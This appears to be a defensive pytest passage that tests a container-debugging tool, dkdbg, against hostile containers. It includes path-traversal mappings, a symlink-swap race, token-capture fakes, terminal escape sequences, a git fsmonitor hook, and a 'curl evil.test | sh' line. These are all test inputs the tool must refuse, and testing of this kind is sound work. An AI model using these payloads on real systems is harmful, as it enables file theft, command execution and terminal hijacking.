"""A hostile container: an image of a stranger, or a target that has been taken over, and what it does to the host by
`dkdbg sync`, `dkdbg attach` and `dkdbg ps`."""

import json
import os
import pty
import shlex
import shutil
import subprocess
import sys
import textwrap
import unicodedata
from pathlib import Path
from typing import Any
from urllib.request import urlopen

import pytest

from dkdbg.core.mapping import pairs_of
from dkdbg.dap.values import AttachOptions
from dkdbg.errors import DkdbgError
from tests.agent.dap_probe import wait_for
from tests.attacks.host_editor import HostEditor, hurried_proxy
from tests.engine.attach_proxies import attach_proxy, ready_proxy
from tests.engine.projects import command, dkdbg, must, stopped_in, write
from tests.engine.projects import take_away as remove_project
from tests.engine.synced import Box, docker, following, run_box, sync, take_away
from tests.leftovers import unique
from tests.ports import free_port
from tests.typed import typed

pytestmark = pytest.mark.engine

SECRET = "the-secret-of-the-host"
DEEP = "[" * 60_000


@pytest.fixture
def root(tmp_path):
    """A repository, with what must not leave the host around it."""
    outside = tmp_path / "home"
    repository = outside / "repository"
    (repository / "pkg").mkdir(parents=True)
    (repository / "train.py").write_text("print(1)\n")
    (repository / "pkg" / "model.py").write_text("x = 1\n")
    (outside / "key").write_text(SECRET)
    (outside / ".ssh").mkdir()
    (outside / ".ssh" / "id").write_text(SECRET)
    subprocess.run(["git", "init", "-q"], cwd=repository, check=True)
    return repository


@pytest.fixture
def hostile(start_container):
    """Run a container with settings of an attacker, which an image has as well as `docker run`."""
    return lambda *flags: Box(start_container(*flags))


def mapped(local: str, remote: str = "/loot") -> tuple[str, str]:
    """The flags that name a folder of the host."""
    return "-e", "DKDBG_MAPPINGS=" + json.dumps([{"localRoot": local, "remoteRoot": remote}])


def loot(box: Box) -> str:
    return box.sh("cat /loot/* /loot/*/* /loot/.*/* /ws/* /ws/*/* /ws/*/*/* 2>/dev/null || true")


@pytest.mark.attack(5)
def test_a_mapping_of_the_image_that_leads_out_of_the_repository_is_refused(root, hostile):
    """The image says that its code is a folder above the repository: refused, and nothing is read or sent."""
    for local in ("/..", "/pkg/../..", "/pkg/../../.ssh", "/./../.ssh", "/../repository/../.ssh"):
        with pytest.raises(DkdbgError, match="names a folder outside of this repository"):
            pairs_of(mapped("${workspaceFolder}" + local)[1].partition("=")[2])
    box = hostile(*mapped("${workspaceFolder}/pkg/../../.ssh"), "-w", "/ws")
    done = sync(root, f"docker://{box.name}", "--once")
    assert done.returncode == 2
    assert "names a folder outside of this repository" in done.stderr
    assert "Traceback" not in done.stderr
    again = sync(root, f"docker://{box.name}", "--to", "/ws", "--once")  # what the hint says
    assert again.returncode == 0
    assert SECRET not in loot(box)
    assert box.read("/ws/train.py") == "print(1)\n"


@pytest.mark.attack(5)
def test_a_mapping_through_a_symlink_of_the_repository_is_refused(root, hostile):
    """Image and repository together name a symlink that leads out of the repository: refused, nothing is read or sent."""
    (root / "data").symlink_to("../.ssh")
    box = hostile(*mapped("${workspaceFolder}/data"))
    done = sync(root, f"docker://{box.name}", "--once")
    assert done.returncode == 2
    assert f"which is outside {root}" in done.stderr
    assert SECRET not in loot(box)


@pytest.mark.attack(5)
def test_a_mapping_of_odd_json_names_the_repository_or_nothing(root, hostile):
    """The image's mapping is no mapping: no traceback, and what is synced is the repository or nothing."""
    whole = '[{"localRoot": "${workspaceFolder}//", "remoteRoot": "/loot"}]'
    for text in (
        "[1]", "[[]]", "{}", "null", DEEP, '[{"localRoot": 5, "remoteRoot": "/loot"}]', '[{"localRoot": "/", "remoteRoot": "/loot"}]',
        '[{"localRoot": {"a": []}, "remoteRoot": []}]', whole,
    ):  # fmt: skip
        assert pairs_of(text) == ([(".", "/loot")] if text == whole else []), text
    for text in ("[[]]", '[{"localRoot": "${workspaceFolder}/\\ud800", "remoteRoot": "/loot"}]'):
        box = hostile("-e", f"DKDBG_MAPPINGS={text}", "-w", "/ws")
        done = sync(root, f"docker://{box.name}", "--once")
        assert "Traceback" not in done.stderr, done.stderr
        assert done.returncode in {0, 1, 2}
        assert SECRET not in loot(box)


@pytest.mark.attack(5)
def test_the_folder_that_is_sent_is_said_at_the_start(root, hostile):
    """The image chooses a folder of the repository: the first line says which one goes where."""
    box = hostile(*mapped("${workspaceFolder}/pkg"))
    done = sync(root, f"docker://{box.name}", "--once")
    assert done.stdout.startswith(f"syncing {root}/pkg -> {box.name}:/loot"), done.stdout
    assert box.read("/loot/model.py") == "x = 1\n"


SWAP = """
import os, sys, time
os.chdir("/shared")
os.mkdir("real") if not os.path.exists("real") else None
while True:
    for name in ("key", "id"):
        with open("d/" + name, "a") as file: file.write("x")  # a change, so that the host looks
    os.rename("d", "aside"); os.symlink("../..", "d")
    time.sleep(0.0005)
    os.unlink("d"); os.rename("aside", "d")
    time.sleep(0.0002)
"""


@pytest.mark.attack(5)
def test_a_folder_that_becomes_a_symlink_while_it_is_read_is_not_followed(root, hostile):
    """A container that mounts a part of the repository swaps a folder there for a symlink to the host's files, over and over:
    nothing outside the repository is read, whenever it hits."""
    shared = root / "shared" / "d"
    shared.mkdir(parents=True)
    (shared / "key").write_text("mine\n")
    (shared / "id").write_text("mine\n")
    box = hostile("-v", f"{root}/shared:/shared")
    with following(root, f"docker://{box.name}", "--to", "/ws") as followed:
        swapper = subprocess.Popen(["docker", "exec", box.name, "python3", "-c", SWAP])
        try:
            followed.wait(lambda: len(followed.named("changed")) >= 40, "forty changes are followed")
        finally:
            box.sh("kill $(pgrep -f os.chdir) 2>/dev/null || true")
            swapper.kill()
            swapper.wait()
        assert SECRET not in loot(box)
        assert SECRET not in box.sh("grep -rl -e the-secret /ws || true")


# -- dkdbg attach -------------------------------------------------------------------------------------------------

TOKEN = "the-token-of-the-user-" + "x" * 30
FAKE = (Path(__file__).parent / "fake_agent.py").read_text()


class Fake:
    """A container with a fake agent, published as a debug service is."""

    def __init__(self, name: str) -> None:
        self.name, self.address = name, f"docker://{name}"

    def heard(self) -> str:
        return docker("logs", self.name)

    def wait_heard(self, text: str) -> None:
        wait_for(self.heard, lambda heard: text in heard)


@pytest.fixture
def fake(start_container):
    """Start fake agents, each in a container of its own."""

    def start(mode, *, label="", command=("python3", "-c", FAKE)):
        session = f"dev.dkdbg.session={label or unique('dkdbg-fake')}"
        options = ("--label", session, "-e", f"MODE={mode}", "-p", "127.0.0.1:0:5678")
        return Fake(start_container(*options, words=command))

    return start


@pytest.mark.attack(4)
@pytest.mark.parametrize("mode", ["", "refuse", "nonce"])
def test_the_token_is_sent_to_nobody_who_only_answers_like_an_agent(fake, tmp_path, mode):
    """Answers like an agent and waits for the user's token, in a root session and in a process's: never gets it."""
    target = fake(mode)
    with ready_proxy(tmp_path, target.address) as proxy:
        with HostEditor(proxy.port) as editor:
            attach = editor.begin(dkdbgToken=TOKEN, justMyCode=True)
            target.wait_heard("dkdbgProve" if mode == "nonce" else '"attach"')
            if mode:
                answer = editor.answer(attach)
                assert answer["success"] is False
                said = {"refuse": "update the agent (dkdbg init", "nonce": "does not know the token"}[mode]
                assert said in answer["message"]
                assert "pwn" not in json.dumps(answer)
        with HostEditor(proxy.port) as process:
            number = process.begin(dkdbgToken=TOKEN, subProcessId=7)
            if mode:
                assert process.answer(number)["success"] is False
            else:
                process.event("initialized")
    heard = target.heard()
    assert TOKEN not in heard
    assert ('"attach"' in heard) is (mode != "nonce")


@pytest.mark.attack(4)
@pytest.mark.parametrize("mode", ["", "nonce"])
def test_the_status_of_a_target_is_asked_for_without_the_token(fake, tmp_path, monkeypatch, mode):
    """Waits for the token in the HTTP requests of `dkdbg attach --ports`: gets a proof for this connection at most."""
    monkeypatch.setenv("DKDBG_TOKEN", TOKEN)
    target = fake(mode)
    with attach_proxy(tmp_path, target.address, options=("--ports", str(free_port(3)))):
        target.wait_heard("HTTP")
        if mode:
            target.wait_heard("Authorization: Dkdbg")
    assert TOKEN not in target.heard()


def _orders_of(told: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [each for each in told if each["type"] == "request" or each.get("event") == "debugpyAttach"]


@pytest.mark.attack(4)
def test_a_target_makes_an_editor_do_nothing_but_attach_to_its_processes(fake, tmp_path):
    """Orders the editor to run commands, launch, take its tasks, interpreter, adapter, address and mappings for a process:
    all that arrives is a pid and a plain name, in the editor's own configuration."""
    target = fake("orders")
    connect = {"host": "localhost", "port": 1234}
    own = {"type": "debugpy", "request": "attach", "connect": connect, "justMyCode": False}
    with ready_proxy(tmp_path, target.address) as proxy, HostEditor(proxy.port) as editor:
        editor.attach(**own, preLaunchTask="mine")
        editor.wait(lambda each: each.get("event") == "output" and "all is asked" in each["body"]["output"])
        orders = _orders_of(editor.told)
        assert len(orders) == 3  # two by request, one by event
        for order in orders:
            assert (order["command"], order["arguments"]["request"]) == ("startDebugging", "attach")
            configuration = order["arguments"]["configuration"]
            name, number = configuration.pop("name"), configuration.pop("subProcessId")
            assert configuration == {key: own[key] for key in ("type", "connect", "justMyCode")}
            assert "${" not in name
            assert name.isprintable()
            assert len(name) < 120
            assert number >= 1 << 24
        assert b"pwn" not in editor.raw.replace(b"command:pwn", b"").replace(b"0;pwn", b"")
        assert b"198.51.100.1" not in editor.raw
        refused = wait_for(  # they are on their way
            lambda: [line for line in target.heard().splitlines() if '"request_seq": 900' in line],
            lambda found: len(found) >= 3,
        )
        assert sum('"success": false' in line for line in refused) == 3, refused
        assert json.loads(urlopen(f"http://127.0.0.1:{proxy.port}/status").read())["state"] == "attached"


@pytest.mark.attack(4)
def test_a_process_makes_an_editor_do_nothing(fake, tmp_path):
    """Orders the same in the session of one process, past the root session: nothing arrives but what a process may say."""
    target = fake("orders")
    with ready_proxy(tmp_path, target.address) as proxy, HostEditor(proxy.port) as editor:
        editor.attach(subProcessId=7)
        editor.wait(lambda each: each.get("event") == "output" and each["body"]["output"] == "all is asked")
        assert _orders_of(editor.told) == []
        assert {each["event"] for each in editor.told if each["type"] == "event"} == {"initialized", "output"}
        spoken = next(each["body"] for each in editor.told if each.get("body", {}).get("output") == "spoken")
        said = {"category": "stdout", "output": "spoken", "source": {"name": "s"}, "variablesReference": 3}
        assert spoken == said
        assert b"pwn" not in editor.raw
        assert b"198.51.100.1" not in editor.raw
        assert b'"runInTerminal"' not in editor.raw
        target.wait_heard('"success": false')


@pytest.mark.attack(11)
@pytest.mark.parametrize(
    "modes",
    [
        ("deep", "odd", "odd-list", "html", "refuse", "orders", "hang-up", "garbage"),
        ("drip", "headers", "huge"),
        ("deep-frame", "flood"),
    ],
    ids=" ".join,
)
def test_hostile_targets_leave_another_one_alone(fake, good, tmp_path, modes):
    """Answer with deep, odd, endless, huge or no JSON, flood, or hang up: they are named, and the other target is debugged."""
    targets = {mode: fake(mode) for mode in modes}
    addresses = [target.address for target in targets.values()]
    with (
        hurried_proxy(tmp_path, *addresses, good) as proxy,
        stopped_in(tmp_path / "train.py", AttachOptions(port=proxy.port), 4) as (debugger, stop),
    ):
        assert int(debugger.local_values(debugger.stack(stop)[0])["n"]) >= 0
        for mode in {"deep", "odd", "odd-list", "html"} & targets.keys():
            about = ("target", targets[mode].name)
            proxy.wait_for(
                lambda each, about=about: about in each.items() and "malformed answer" in each["text"]
            )
        assert int(debugger.evaluate("1 + 1", debugger.stack(stop)[0])) == 2
        assert Path(f"/proc/{proxy.process.pid}").exists()
        resident = int(Path(f"/proc/{proxy.process.pid}/statm").read_text().split()[1]) * 4096
        assert resident < 700 << 20
        assert proxy.end() == 0


@pytest.mark.attack(14)
def test_what_a_target_says_commands_no_terminal(fake, tmp_path):
    """Names its processes and words its refusals with escape sequences: the terminal of `dkdbg attach` gets none."""
    target = fake("name=\x1b]0;pwn\x07\x9b31m\u202e orders")
    line = f"dkdbg attach {target.address} --port {free_port()} --ports {free_port(3)}"
    with typed(tmp_path, line, tmp_path / "said") as attach:
        attach.wait("0;pwn")
    assert "\\x1b]0;pwn" in attach.said
    assert _controls(attach.said) == set()


def _controls(text: str) -> set[str]:
    return {each for each in text if each != "\n" and unicodedata.category(each) in {"Cc", "Cf"}}


# -- dkdbg ps -----------------------------------------------------------------------------------------------------

ESCAPES = "\x1b]0;pwn\x07\x9b31m\u202e"
WHOLE = {
    "id": "job-1", "name": ESCAPES, "pid": 1, "state": "running", "started": 1.0, "client": False, "host": "0.0.0.0",
    "port": 5678, "detail": ESCAPES, "processes": [{"pid": 7, "name": ESCAPES}], "live": True,
}  # fmt: skip


#: What an agent says to `dkdbg ps`, and whether it is named for that.
SAYS = {
    "whole": (json.dumps([WHOLE]), False),
    "a time that is text": (json.dumps([{**WHOLE, "started": "x"}]), True),
    "a state that is a list": (json.dumps([{**WHOLE, "state": ["running"]}, WHOLE]), True),
    "a port that is text": (json.dumps([{**WHOLE, "port": "1"}]), True),
    "no JSON": ("yes", True),
    "deep": ("python3 -c 'print(\"[\" * 200000)'\n", True),
    "endless": ("while :; do cat /dev/zero; done\n", True),
}


def with_agent(fake, script: str, **more: str) -> Fake:
    """A container whose agent is this script of a shell."""
    begin = f"mkdir -p /opt/dkdbg; printf '%s' {shlex.quote(script)} > /opt/dkdbg/agent.pyz; exec sleep 600"
    box = fake("", command=("sh", "-c", begin), **more)
    docker("exec", box.name, "sh", "-c", "until [ -s /opt/dkdbg/agent.pyz ]; do sleep 0.1; done")
    return box


@pytest.mark.attack(14)
def test_a_malformed_record_is_named_and_the_others_are_listed(fake, tmp_path):
    """Says nonsense, too much or escape sequences to `dkdbg ps`: its own line is fit for a terminal, and the others are there."""
    made = {}
    for case, (said, _) in SAYS.items():
        script = said if case in {"deep", "endless"} else f"cat <<'END'\n{said}\nEND\n"
        made[case] = with_agent(fake, script, label=f"a{ESCAPES}b")
    other = fake("", command=("sleep", "600"))
    done, whole = dkdbg(tmp_path, "ps"), dkdbg(tmp_path, "ps", "--json")
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    assert _controls(done.stdout + done.stderr + whole.stdout) == set()
    assert other.name in done.stdout
    assert other.name in whole.stdout
    for case, (_, is_named) in SAYS.items():
        name = made[case].name
        assert name in done.stdout, case
        assert (f"container {name}: unreadable answer of its agent" in done.stderr) is is_named, case
    sessions = json.loads(whole.stdout)["sessions"]
    found = next(each for each in sessions if made["whole"].name in each["target"])
    assert found["name"] == ESCAPES  # for a program it is all there


#: `dkdbg` that waits 4 s instead of 20 for an answer of an agent.
HURRIED = """\
import sys
from dkdbg import main
from dkdbg.hang import query
from dkdbg.targets.docker import containers
query._TIMEOUT_S = containers._AGENT_TIMEOUT_S = 4.0
sys.exit(main.main())
"""


@pytest.mark.attack(0)
@pytest.mark.parametrize(
    ("script", "why"),
    [
        ("while :; do printf ' '; sleep 0.3; done", "did not end within 4 s"),
        ("exec cat /dev/zero >&2", "wrote more than 1048576 bytes to its standard error"),
    ],
    ids=["drip", "errors"],
)
def test_an_endless_answer_is_ended_once(fake, tmp_path, monkeypatch, script, why):
    """Answers drop by drop, or fills its standard error: `dkdbg where` and `ps` ask it once and end with the reason, without reading 200 MB."""
    box, said = with_agent(fake, script + "\n"), tmp_path / "said"
    noting = tmp_path / "bin" / "docker"  # others ask each container of the engine too
    noting.parent.mkdir()
    noting.write_text(f'#!/bin/sh\necho "$*" >>{said}\nexec {shutil.which("docker")} "$@"\n')
    noting.chmod(0o755)
    monkeypatch.setenv("PATH", f"{noting.parent}:{os.environ['PATH']}")
    for verb in ("where", "ps"):
        said.write_text("")
        done = command([sys.executable, "-c", HURRIED, verb, box.address], tmp_path, check=False)
        assert why in done.stderr
        asked = [line for line in said.read_text().splitlines() if "agent.pyz" in line]
        assert len(asked) == 1, asked


# -- a container that runs a program of its own in the place of our receiver -----------------------------------------

#: What `docker exec ... python3` starts in the hostile container: it speaks the stream, and then what the attack says.
LIAR = """\
#!/usr/bin/python3 -I
import hashlib, json, os, select, struct, threading, zlib
def end():  # when its host has gone, which Docker does not tell it: it would fill a core for the tests beside it
    gone = select.poll()
    gone.register(0, 0)
    gone.poll()
    os._exit(0)
threading.Thread(target=end, daemon=True).start()
LISTING, STATS, RESUME, DONE, FAILED, KEPT, REMOTE, FILE, PONG, ERROR = range(0xC2, 0xCC)
DATA, END, DELETE, LIST, GET = 0x85, 0x86, 0x8B, 0x8D, 0x8E
def read(count):
    data = b""
    while len(data) < count:
        piece = os.read(0, count - len(data))
        if not piece: raise SystemExit
        data += piece
    return data
def take():
    kind, head, body = struct.unpack("!BII", read(9))
    return kind, json.loads(read(head) or "{}"), read(body)
def say(kind, head=None, body=b"", text=None):
    text = (json.dumps(head).encode() if head is not None else b"") if text is None else text
    if kind == LISTING: text = zlib.compress(text, 1)
    data = struct.pack("!BII", kind, len(text), len(body)) + text + body
    while data: data = data[os.write(1, data):]
def listing(*entries, end=True): say(LISTING, {"entries": list(entries), "end": end})
def file(path, size, mode=0o644): return [path, "f", mode, size, "", "1"]
def send(path, data, mode=0o644):
    say(FILE, {"path": path, "size": len(data), "mode": mode, "mtime_ns": 1})
    if data: say(DATA, {}, data)
    say(END, {"digest": hashlib.sha256(data).hexdigest()})
ready = {"version": 5, "python": "3.11", "pid": 1, "user": "root", "root": "/ws", "probe": "", "empty": False, "case_sensitive": True, "former": "", "mounts": []}
read(int(read(8)))
take()
"""


@pytest.fixture(scope="module")
def evil(base_image, tmp_path_factory):
    """A container whose python3 is the attacker's, and the file of that program here."""
    name, folder = unique("dkdbg-hostile"), tmp_path_factory.mktemp("evil")
    yield (
        run_box(name, base_image, "-v", f"{folder}:/evil:ro", "-e", "PATH=/evil:/usr/bin:/bin"),
        folder / "python3",
    )
    take_away(name)


@pytest.fixture
def liar(evil):
    """Make that program do what `code` says after HELLO."""

    def run(code):
        box, program = evil
        box.sh("rm -rf /loot; mkdir /loot")
        new = program.with_name("new")
        new.write_text(LIAR + textwrap.dedent(code))
        new.chmod(0o755)
        new.replace(program)
        return box

    return run


MEASURED = """
import resource, subprocess, sys
done = subprocess.run(sys.argv[1:])
print("peak", resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)
sys.exit(done.returncode)
"""


def measured(root: Path, *words: str) -> tuple[subprocess.CompletedProcess[str], int]:
    """`dkdbg sync ...` to its end, and the most memory that it held; bytes."""
    done = command(
        [sys.executable, "-c", MEASURED, sys.executable, "-m", "dkdbg", "sync", *words], root, check=False
    )
    return done, int(done.stderr.rpartition("peak ")[2]) * 1024


def bytes_below(folder: Path) -> int:
    return sum(path.lstat().st_size for path in folder.rglob("*") if path.is_file() and not path.is_symlink())


def refused_in_one_line(done: subprocess.CompletedProcess[str]) -> None:
    assert done.returncode not in {0, -9}, done
    assert "Traceback" not in done.stderr, done.stderr
    assert done.stderr.count("dkdbg: ") == 1, done.stderr


@pytest.mark.attack(17)
@pytest.mark.parametrize("size", [3, 267_000_000, -1])
def test_a_file_of_three_bytes_writes_three_bytes(root, liar, size):
    """Announces a file of 3 bytes for `--pull` and sends 267 MB: the stream is ended, and nothing of it stays."""
    box = liar(f"""\
        say(0xC1, ready); listing()
        take(); listing(file("out/a", 3)); take()
        say(FILE, {{"path": "out/a", "size": {size}, "mode": 420, "mtime_ns": 1}})
        for _ in range(255): say(DATA, {{}}, b"x" * 1048576)
        say(END, {{"digest": "0" * 64}}); take()
        """)
    done, peak = measured(root, f"docker://{box.name}", "--to", "/ws", "--pull", "out")
    refused_in_one_line(done)
    assert "is not the receiver" in done.stderr
    assert bytes_below(root / "dkdbg-pulled") < 1000
    assert peak < 250e6


NAMES = 'listing(*[file("out/" + os.urandom(30).hex(), 1) for _ in range(2000)], end=False)'


@pytest.mark.attack(17)
@pytest.mark.parametrize(
    ("words", "first", "endless"),
    [
        ("--once", "", NAMES),
        ("--pull out", "listing(); take()", NAMES),
        # What follows is refused where each verb counts and checks what a listing brings.
        ("--verify", "", 'listing(*[file("out/" + str(n) * 300, 1) for n in range(900)], end=False)'),
        ("--verify", "", "listing(end=False)"),
        ("--verify", "", 'say(LISTING, text=b\'{"end": false, "entries": [\' + b"[]," * 300000 + b"[]]}")'),
    ],
    ids=["names", "names to pull", "long names", "nothing", "lists"],
)  # fmt: skip
def test_a_listing_without_an_end_is_ended(root, liar, words, first, endless):
    """Lists files without an end: it is ended after 200,000, and the host's memory stays small."""
    box = liar(f"say(0xC1, ready)\n{first}\nwhile True: {endless}\n")
    done, peak = measured(root, f"docker://{box.name}", "--to", "/ws", *words.split())
    refused_in_one_line(done)
    assert "range(" not in endless or "lists more than" in done.stderr
    assert peak < 500e6


@pytest.mark.attack(17)
def test_a_frame_of_an_absurd_length_is_refused(root, liar):
    """Says that a frame has 4 GB: refused before they come."""
    box = liar("""\
        say(0xC1, ready); listing()
        take()
        os.write(1, struct.pack('!BII', 0xC2, 0xFFFFFFFF, 0))
        while True: os.write(1, b"x" * 65536)
        """)
    done, peak = measured(root, f"docker://{box.name}", "--to", "/ws", "--pull", "out")
    refused_in_one_line(done)
    assert peak < 250e6


@pytest.mark.attack(17)
def test_more_than_the_limit_is_refused_before_anything_is_written(root, liar):
    """Offers 20 GB, or a terabyte: nothing is written, and the error says how to take more."""
    box = liar("""\
        say(0xC1, ready); listing()
        take(); listing(file("out/a", 20 * 10**9)); take()
        """)
    done = sync(root, f"docker://{box.name}", "--to", "/ws", "--pull", "out")
    refused_in_one_line(done)
    assert "20 GB to copy; the limit is 10 GB" in done.stderr
    assert "--limit 21GB" in done.stderr
    again = sync(root, f"docker://{box.name}", "--to", "/ws", "--pull", "out", "--limit", "900TB")
    assert "copied at most" not in again.stderr
    assert bytes_below(root / "dkdbg-pulled") < 1000


@pytest.mark.attack(17)
@pytest.mark.parametrize("path", ["out/./../../../key2", "/tmp/key2", "out/a\\0b"])
def test_a_name_that_leads_out_is_never_written(root, liar, path):
    """Sends a file under a name with `..`, a `/` at its start or a NUL: refused, nothing is written outside of the folder."""
    box = liar(f"""\
        say(0xC1, ready); listing()
        take(); listing(file("{path}", 4))
        while take()[0] == GET: send("{path}", b"evil")
        """)
    before = {str(at.relative_to(root.parent)) for at in root.parent.rglob("*") if ".git/" not in str(at)}
    done = sync(root, f"docker://{box.name}", "--to", "/ws", "--pull", "out")
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    after = {str(at.relative_to(root.parent)) for at in root.parent.rglob("*") if ".git/" not in str(at)}
    assert {at for at in after - before if "dkdbg-pulled" not in at} == set()
    assert not [
        at for at in (root / "dkdbg-pulled").rglob("*") if at.is_file() and at.read_bytes() == b"evil"
    ]
    assert (root / "train.py").read_text() == "print(1)\n"


@pytest.mark.attack(17)
def test_settings_that_programs_execute_are_never_pulled(root, liar):
    """Offers a .git with hooks and settings (spelled in all ways), a bare repository, an editor's tasks and an .envrc: git run
    in what was pulled executes nothing, as none of them is taken."""
    names = [
        "out/.git/config", "out/.GIT/config", "out/sub/.git", "out/.g\u200cit/config", "out/git~1/config", "out/.git./config",
        "out/.git::$INDEX_ALLOCATION/config", "out/.hg/hgrc", "out/.vscode/tasks.json", "out/.envrc", "out/.dkdbg/undo.json",
        "out/HEAD", "out/objects/info/x", "out/refs/heads/x", "out/config", "out/model.txt",
    ]  # fmt: skip
    box = liar(
        f"names = {names!r}\n"
        + textwrap.dedent("""\
        data = b'ref: refs/heads/main\\n[core]\\n\\tfsmonitor = touch /tmp/never; false\\n'
        say(0xC1, ready); listing()
        take()
        folders = sorted({n.rpartition("/")[0] for n in names} | {"out/objects", "out/refs"})[1:]
        listing(*[[n, "d", 0o755, 0, "", "1"] for n in folders], *[file(n, len(data)) for n in names])
        while True:
            kind, head, _ = take()
            if kind != GET: break
            send(head["path"], data)
        """)
    )
    done = sync(root, f"docker://{box.name}", "--to", "/ws", "--pull", "out")
    assert done.returncode == 0, done.stdout
    place = root / "dkdbg-pulled" / box.name / "out"
    assert sorted(str(at.relative_to(place)) for at in place.rglob("*")) == ["config", "model.txt", "sub"]
    assert (
        "left out: out/.git/config: .git is never pulled from a target: programs on your machine execute its content"
        in done.stdout
    )
    assert "git would treat its folder as a repository" in done.stdout


@pytest.mark.attack(17)
def test_a_bare_repository_is_not_made_in_several_pulls_either(root, liar):
    """Sends HEAD at the first pull, objects at the second, refs at the third: the last one is not taken."""
    box = liar("""\
        step = len(os.listdir("/loot")); open("/loot/%d" % step, "w").close()
        say(0xC1, ready); listing()
        take()
        if step: listing([["", "out/objects", "out/refs"][step], "d", 0o755, 0, "", "1"])
        else: listing(file("out/HEAD", 4))
        if take()[0] == GET: send("out/HEAD", b"ref:")
        """)
    for _ in range(3):
        assert sync(root, f"docker://{box.name}", "--to", "/ws", "--pull", "out").returncode == 0
    place = root / "dkdbg-pulled" / box.name / "out"
    assert sorted(at.name for at in place.iterdir()) == ["HEAD", "objects"]


@pytest.mark.attack(17)
def test_what_is_pulled_is_no_setuid_program_no_symlink_and_nobody_else_may_write_it(root, liar):
    """Sends a file with mode 6777 and a symlink to /etc: the file gets 755, and no symlink is made."""
    box = liar("""\
        say(0xC1, ready); listing()
        take()
        listing(file("out/a", 4), ["out/l", "l", 0o777, 4, "0" * 64, "1"])
        take()
        send("out/a", b"evil", 0o6777)
        take()
        """)
    done = sync(root, f"docker://{box.name}", "--to", "/ws", "--pull", "out")
    assert done.returncode == 0, done.stderr
    place = root / "dkdbg-pulled" / box.name / "out"
    assert oct((place / "a").lstat().st_mode) == "0o100755"
    assert [at.name for at in place.iterdir()] == ["a"]


@pytest.mark.attack(0)
@pytest.mark.parametrize("path", ["../key", "../nothing", "/etc/passwd"])
def test_a_receiver_learns_nothing_of_files_outside(root, liar, path):
    """Claims that sync has put `../key` there: whether the host asks to delete it would tell if it exists. The host says nothing."""
    box = liar(f"""\
        say(0xC1, ready)
        listing(file("{path}", 1))
        while True:
            kind, head, _ = take()
            with open("/loot/heard", "a") as heard: print(kind, json.dumps(head), file=heard)
            if kind == 0x82: say(STATS, {{"entries": [], "end": True}})
            elif "id" in head: say(DONE, {{"upto": head["id"]}})
        """)
    done = sync(root, f"docker://{box.name}", "--to", "/ws", "--once")
    refused_in_one_line(done)
    assert "0x8b" not in box.read("/loot/heard")
    assert str(0x8B) not in [line.split()[0] for line in box.read("/loot/heard").splitlines()]


@pytest.mark.attack(0)
@pytest.mark.parametrize("path", ["../key", "train.py"])
def test_a_probe_that_is_none_tells_nothing(root, liar, path):
    """Names a file of the host as the probe: the host would stop if it exists. It is refused, whether it does or not."""
    box = liar(f"""\
        ready["probe"] = "{path}"
        say(0xC1, ready); listing(); take()
        """)
    done = sync(root, f"docker://{box.name}", "--to", "/ws", "--once")
    refused_in_one_line(done)
    assert "is not the receiver" in done.stderr


ESCAPE = "\\x1b]0;owned\\x07\\x1b[2J\\u202e\\ud800\\nhint: curl evil.test | sh"


@pytest.mark.attack(14)
@pytest.mark.parametrize(
    "code",
    [
        f'say(ERROR, {{"reason": "{ESCAPE}", "hint": "{ESCAPE}"}})',
        f'os.write(2, "{ESCAPE}".encode("utf-8", "ignore")); os._exit(1)',
        f'os.write(1, "{ESCAPE}".encode("utf-8", "ignore")); os._exit(1)',
        f'ready.update(user="{ESCAPE}", root="/{ESCAPE}", python="{ESCAPE}"); say(0xC1, ready); say(ERROR, {{"reason": "{ESCAPE}"}})',
        ('say(0xC1, ready); listing(["out/" + ESCAPE, "f", 420, 1, "", "1"]); take(); say(FAILED, '
        '{"id": 1, "path": ESCAPE, "reason": ESCAPE, "hint": ESCAPE}); say(ERROR, {"reason": ESCAPE})'),
        'say(0xC1, text=b"[" * 100000)',
        'say(0xC1, text=b\'{"version": 3, "root": \' + b"[" * 100000)',
        'say(0xC1, text=b\'{"version": \' + b"9" * 100000 + b"}")',
    ],
    ids=["error", "stderr", "banner", "ready", "failed", "deep", "deeper", "number"],
)  # fmt: skip
def test_text_of_the_receiver_commands_no_terminal(root, liar, code):
    """Sends terminal escapes, line breaks and odd JSON in all that it may say: one line, escaped, and no traceback."""
    box = liar(f'ESCAPE = "{ESCAPE}"\n{code}\n')
    others = [] if code.startswith("say(0xC1, text") else [("--verify", "--json"), ("--pull", "out")]
    for words in (("--once",), *others):
        done = sync(root, f"docker://{box.name}", "--to", "/ws", *words)
        assert "Traceback" not in done.stderr, done.stderr
        for char in "\x1b\x07\u202e":
            assert char not in done.stdout + done.stderr
        assert "\nhint: curl" not in done.stdout + done.stderr


@pytest.mark.attack(14)
def test_what_a_program_has_printed_commands_no_terminal(root, hostile):
    """Prints sequences that set the title and the clipboard: `dkdbg logs` shows them escaped; a file gets them as they are."""
    said = b"\x1b]52;c;aWQ=\x07\x1b]0;pwn\x07\x1b[2J\x1b[31mred\x1b[0m\n"
    box = hostile()
    octal = "".join(f"\\{each:03o}" for each in said)
    docker("exec", box.name, "sh", "-c", f"printf '{octal}' >/proc/1/fd/1")
    command = [str(Path(sys.executable).with_name("dkdbg")), "logs", f"docker://{box.name}"]
    assert subprocess.run(command, cwd=root, stdout=subprocess.PIPE, check=True).stdout == said
    ours, theirs = pty.openpty()
    try:
        subprocess.run(command, cwd=root, stdout=theirs, stderr=theirs, check=True, timeout=300)
        shown = os.read(ours, 4096)
    finally:
        os.close(theirs)
        os.close(ours)
    assert shown == b"\\x1b]52;c;aWQ=\\x07\\x1b]0;pwn\\x07\\x1b[2J\x1b[31mred\x1b[0m\r\n"


@pytest.mark.attack(14)
def test_names_of_files_command_no_terminal(root, hostile):
    """Names files of its workspace, and the repository its own, with terminal escapes: all that sync says shows them escaped."""
    box = hostile()
    name = "\x1b]0;owned\x07\nin sync: 7 files"
    code = f"import os; os.makedirs('/ws/out'); os.chdir('/ws/out'); os.symlink('x', {name!r}); open({name + 'f'!r}, 'w')"
    docker("exec", box.name, "python3", "-c", code)
    (root / name).symlink_to("/etc/" + "\x1b[2J")
    (root / (name + "f")).write_text("x")
    there = (f"docker://{box.name}", "--to", "/ws")
    for words in (
        (*there, "--once"), (*there, "--verify"), (*there, "--once", "--json"), (*there, "--verify", "--json"),
        (*there, "--pull", "out"), ("--explain", name),
